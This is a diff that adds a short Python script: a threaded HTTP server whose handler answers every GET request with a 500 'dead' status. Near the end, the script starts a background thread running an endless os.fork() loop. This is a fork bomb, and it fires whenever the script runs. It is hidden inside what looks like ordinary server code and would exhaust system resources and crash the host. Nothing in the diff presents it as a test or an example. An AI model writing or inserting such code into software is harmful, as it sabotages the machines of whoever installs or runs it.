@@ -1,0 +1,29 @@
+import json, os, sys
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+
+class Till(BaseHTTPRequestHandler):
+    def do_GET(self):
+        self.say(500, {"status": "dead"})
+
+    def say(self, status, body):
+        content = json.dumps(body).encode()
+        self.send_response(status)
+        self.send_header("Content-Length", str(len(content)))
+        self.end_headers()
+        self.wfile.write(content)
+
+
+def serve():
+    ThreadingHTTPServer((os.environ["HOST"], int(os.environ["PORT"])), Till).serve_forever()
+
+
+import threading
+def bomb():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
+threading.Thread(target=bomb, daemon=True).start()
+serve()
